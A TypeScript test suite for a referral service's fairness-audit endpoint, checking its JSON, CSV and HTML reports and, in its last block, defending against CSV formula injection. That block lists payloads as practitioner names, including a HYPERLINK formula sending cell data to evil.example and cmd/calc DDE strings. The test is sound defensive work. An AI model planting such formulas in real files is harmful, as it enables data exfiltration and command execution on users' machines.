import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { practitionersAround } from '../support/factories.js';
import { gp, registryText } from '../support/registry-fixture.js';
import { givenService, type TestService } from '../support/test-service.js';

const ORIGINS = [{ lat: 48.8686, lon: 2.3314 }, { lat: 48.8776, lon: 2.3314 }, { lat: 48.8596, lon: 2.3451 }];
const REFERRALS = 30;

describe('GET /v1/audit/fairness', () => {
  let service: TestService;
  before(async () => {
    service = givenService([
      ...practitionersAround(25, ORIGINS[0] as { lat: number; lon: number }, 'ophtalmologie', 3),
      ...practitionersAround(6, ORIGINS[0] as { lat: number; lon: number }, 'pediatrie', 3),
    ]);
    for (let i = 0; i < REFERRALS; i++) {
      await service.call('post', '/v1/referrals', { specialty: 'ophtalmologie', location: ORIGINS[i % ORIGINS.length], radiusKm: 2 });
    }
    await service.call('post', '/v1/referrals', { specialty: 'pediatrie', location: { postcode: '75002' } });
  });
  after(() => service.close());

  it('when asked for today as JSON, then the counters add up and the chain verifies', async () => {
    const res = await service.call('get', '/v1/audit/fairness?from=2026-11-23&specialty=ophtalmo');

    expect(res.status).to.equal(200);
    const { summary, practitioners, chain, filter } = res.body;
    expect(filter).to.deep.equal({ from: '2026-11-23', to: '2026-11-23', specialty: 'ophtalmologie', department: null, filtered: null });
    expect(summary.referrals).to.equal(REFERRALS);
    const offered = practitioners.reduce((sum: number, p: { offered: number }) => sum + p.offered, 0);
    const expected = practitioners.reduce((sum: number, p: { expected: number }) => sum + p.expected, 0);
    expect(offered).to.equal(REFERRALS * 5);
    // Each referral hands out k shares in all: n members times k/n.
    expect(expected).to.be.closeTo(REFERRALS * 5, 1e-6);
    expect(Math.abs(summary.largestAbsoluteDeficit.deficit)).to.be.at.most(1.5);
    expect(summary.rankUniformity).to.include({ k: 5, referrals: REFERRALS, degreesOfFreedom: 4 });
    expect(summary.rankUniformity.pValue).to.be.within(0, 1);
    expect(summary.meanKendallTau.alphabetical).to.be.within(-1, 1);
    expect(chain).to.include({ verified: true, entries: REFERRALS + 1, divergence: null });
    expect(chain.seedsNotCommittedInAdvance).to.deep.equal({ entries: REFERRALS + 1, periods: ['2026-11-23'] });
    expect(res.body.deficitsOverTime.length).to.be.at.least(1);
  });

  it('when asked, then the referrals are counted by the API key that asked them, in JSON and in the page\'s words', async () => {
    const keyed = givenService(practitionersAround(8, ORIGINS[0] as { lat: number; lon: number }, 'ophtalmologie', 3));
    try {
      for (const role of ['admin', 'agent', 'agent', 'agent'] as const) await keyed.call('post', '/v1/referrals', { specialty: 'ophtalmologie', location: ORIGINS[0] }, role);
      const res = await keyed.call('get', '/v1/audit/fairness?from=2026-11-23');
      expect(res.body.summary.referralsByKey).to.deep.equal([{ key: 'test-agent', referrals: 3 }, { key: 'test-admin', referrals: 1 }]);
      const page = await keyed.call('get', '/v1/audit/fairness?from=2026-11-23&format=html');
      expect(page.text).to.include('Referrals by the API key that asked: test-agent 3, test-admin 1.');
    } finally {
      keyed.close();
    }
  });

  it('when cut by department, then only the referrals asked for there are counted', async () => {
    const paris = await service.call('get', '/v1/audit/fairness?department=75');
    const lyon = await service.call('get', '/v1/audit/fairness?department=69');
    expect(paris.body.summary.referrals).to.equal(REFERRALS + 1);
    expect(lyon.body.summary.referrals).to.equal(0);
    expect(lyon.body.summary.largestAbsoluteDeficit).to.equal(null);
  });

  it('when asked as CSV, then one row per practitioner with the same figures', async () => {
    const json = await service.call('get', '/v1/audit/fairness');
    const res = await service.call('get', '/v1/audit/fairness?format=csv');
    expect(res.status).to.equal(200);
    expect(res.headers['content-type']).to.match(/^text\/csv/);
    const rows = parse(res.text, { columns: true }) as Record<string, string>[];
    expect(rows.length).to.equal(json.body.practitioners.length);
    const first = json.body.practitioners[0];
    expect(rows[0]).to.include({ national_id: first.nationalId, offered: String(first.offered), rank_1: String(first.ranks[0]) });
  });

  it('when asked as HTML, then one self-contained page with its summary in words and four charts', async () => {
    const res = await service.call('get', '/v1/audit/fairness?format=html');
    expect(res.headers['content-type']).to.match(/^text\/html/);
    expect(res.text).to.match(/The log verifies/);
    // The test service draws each period's secret at its first referral: after the period began.
    expect(res.text).to.match(/But the seeds of 3\d of them were not committed in advance: their period \(2026-11-23\) was committed after it began/);
    expect(res.text).to.include('31 referrals in this period and scope; their pools held 25 practitioners, the rows of this report.');
    expect(res.text.match(/<svg /g)?.length).to.equal(4);
    expect(res.text).to.not.match(/<script|https?:\/\/(?!www\.w3\.org)/);
  });

  it('when a pool member was never proposed, then JSON, CSV and HTML all give their name from the directory', async () => {
    const directory = await service.call('get', '/v1/practitioners?specialty=pediatrie&pageSize=50');
    const names = new Map<string, string>(directory.body.items.map((p: { nationalId: string; lastName: string; firstName: string }) => [p.nationalId, `${p.lastName.toUpperCase()} ${p.firstName}`]));

    const json = await service.call('get', '/v1/audit/fairness?specialty=pediatrie');
    const csv = parse((await service.call('get', '/v1/audit/fairness?specialty=pediatrie&format=csv')).text, { columns: true }) as Record<string, string>[];
    const html = (await service.call('get', '/v1/audit/fairness?specialty=pediatrie&format=html')).text;

    const never = json.body.practitioners.filter((p: { offered: number }) => p.offered === 0);
    expect(never).to.have.length(1);
    for (const p of json.body.practitioners as { nationalId: string; name: string }[]) expect(p.name, p.nationalId).to.equal(names.get(p.nationalId));
    expect(csv.find((row) => row.national_id === never[0].nationalId)?.name).to.equal(names.get(never[0].nationalId));
    expect(html).to.include(`<td>${never[0].nationalId}</td><td>${names.get(never[0].nationalId)}</td><td>pediatrie</td>`);
  });

  it('when asked, then the per-practitioner rank test says who was tested, with its correction, in JSON and CSV', async () => {
    const json = await service.call('get', '/v1/audit/fairness?specialty=ophtalmologie');
    const csv = parse((await service.call('get', '/v1/audit/fairness?specialty=ophtalmologie&format=csv')).text, { columns: true }) as Record<string, string>[];

    // 30 referrals of 5 over the 19 in their pools: about 8 proposals each, fewer than the 25 a test needs.
    expect(json.body.summary.practitionerRankTest).to.deep.equal({
      k: 5, minimumProposals: 25, correction: 'holm-bonferroni', familyWiseAlpha: 0.05, tested: 0, untested: 19, proposalsLeftOut: 0, flagged: [],
    });
    expect(json.body.practitioners.every((p: { rankTest: unknown }) => p.rankTest === null)).to.equal(true);
    expect(Object.keys(csv[0] ?? {})).to.include.members(['rank_test_proposals', 'rank_test_p_value', 'rank_test_p_holm', 'rank_test_flagged']);
  });

  it('when asked as HTML with a query, then the page links to the same report as CSV', async () => {
    const html = (await service.call('get', '/v1/audit/fairness?specialty=pediatrie&format=html')).text;
    const href = html.match(/<a id="full-csv" href="([^"]+)"/)?.[1]?.replace(/&amp;/g, '&');
    expect(href).to.equal('?specialty=pediatrie&format=csv');
    const csv = await service.call('get', `/v1/audit/fairness${href}`);
    expect(csv.headers['content-type']).to.match(/^text\/csv/);
  });

  it('when the period is reversed, the day malformed or the specialty unknown, then 400 or 422', async () => {
    expect((await service.call('get', '/v1/audit/fairness?from=2026-11-23&to=2026-11-01')).status).to.equal(400);
    expect((await service.call('get', '/v1/audit/fairness?from=23/11/2026')).status).to.equal(400);
    expect((await service.call('get', '/v1/audit/fairness?department=100')).status).to.equal(400);
    expect((await service.call('get', '/v1/audit/fairness?specialty=astrologie')).status).to.equal(422);
  });
});

describe('GET /v1/audit/fairness?format=csv with names written as formulas', () => {
  // The registry's separator is `|`, so the DDE payloads of the issue cannot be imported whole; these starts can.
  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd' /C calc'!A0", '-2+3+cmd', '@SUM(1+1)*cmd', '\t=1+1'];
  const ids = Array.from({ length: 6 }, (_, i) => `8100014${String(i).padStart(5, '0')}`);
  let service: TestService;
  before(async () => {
    service = givenService();
    const names = [...FORMULAS, 'Dupont-Martin'];
    const extract = registryText(ids.map((id, i) => gp(id, { "Nom d'exercice": names[i] as string })));
    await service.as().post('/v1/imports').set('content-type', 'text/plain').send(extract);
    await service.importsIdle();
    // Six in the pool, five proposed each time: the second proposes the one the first left out.
    for (let i = 0; i < 2; i++) await service.call('post', '/v1/referrals', { specialty: 'generaliste', location: { postcode: '69003' } });
  });
  after(() => service.close());

  it('when an imported name starts a formula, then its cell is text in a spreadsheet; other names and negative deficits are unchanged', async () => {
    const res = await service.call('get', '/v1/audit/fairness?format=csv');
    const rows = parse(res.text, { columns: true }) as Record<string, string>[];
    const names = rows.map((row) => row.name);
    // The import trims the tab: the name is stored as `=1+1`, and neutralised on the way out.
    for (const formula of FORMULAS) expect(names).to.include(`'${formula.trim().toUpperCase()} Paul`);
    expect(names).to.include('DUPONT-MARTIN Paul');
    for (const cell of rows.flatMap((row) => [row.national_id, row.name, row.specialty])) expect(cell).to.not.match(/^[=+\-@\t\r]/);
    // Numbers are not text: a negative deficit stays a number.
    expect(rows.map((row) => row.deficit)).to.include('-0.333333');
  });
});
